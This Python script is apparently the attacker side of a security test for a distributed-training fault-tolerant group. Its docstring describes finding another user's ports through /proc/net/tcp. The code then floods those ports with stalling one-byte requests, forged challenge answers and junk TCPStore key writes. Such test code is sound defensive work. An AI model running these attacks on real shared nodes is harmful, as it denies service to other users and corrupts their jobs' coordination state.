"""The attacker's side of tests/security/test_ft_group.py, run as the second account until STOP
exists. What any user of a node can do against another user's fault-tolerant group: find every
TCP port the victim listens on (/proc/net/tcp and tcp6 show every socket's owner: a scan by uid
finds them) and at each port, again and again:
- start a request and never finish it (one byte: torch 1.13's TCPStore server then serves
  nobody), and hold the connection;
- answer a challenge (autopar's store) with 32 bytes of its own;
- write the keys a guessable prefix would give (TCPStore's set of "autopar-ft/<epoch>/...").
It prints one line at the end: ATTACKS <connections opened> PORTS <ports seen>.

The victim's ports come from PORTS, a file of "ADDRESS PORT" lines that the test rewrites as the
job's programs come and go: the same ports a scan by uid finds, narrowed to this job's so that the
jobs of tests running beside this one (root's too, on the same node addresses) are left alone.

    ft_intruder.py PORTS STOP
"""
import os
import socket
import struct
import sys
import time

ports, stop = sys.argv[1], sys.argv[2]


def targets():
    try:
        lines = open(ports).read().splitlines()
    except OSError:
        return set()
    return {(ip, int(port)) for ip, port in (line.split() for line in lines if line.strip())}


def tcpstore_set(key: bytes, value: bytes) -> bytes:
    # c10d's TCPStore wire (QueryType SET = 0, then length-prefixed key and value).
    return b"\x00" + struct.pack("<Q", len(key)) + key + struct.pack("<Q", len(value)) + value


held, opened, seen = [], 0, set()
while not os.path.exists(stop):
    for ip, port in targets():
        seen.add(port)
        for payload in (b"\x00", b"\x01" * 32,
                        b"".join(tcpstore_set(f"autopar-ft/{e}/{k}".encode(), b"junk" * 64)
                                 for e in range(4) for k in ("0", "1", "2", "3", "rank_0"))):
            try:
                s = socket.create_connection((ip, port), timeout=0.2)
                s.sendall(payload)
                held.append(s)
                opened += 1
            except OSError:
                pass
    while len(held) > 400:  # stay within this account's descriptors
        held.pop(0).close()
    time.sleep(0.2)
print(f"ATTACKS {opened} PORTS {len(seen)}", flush=True)
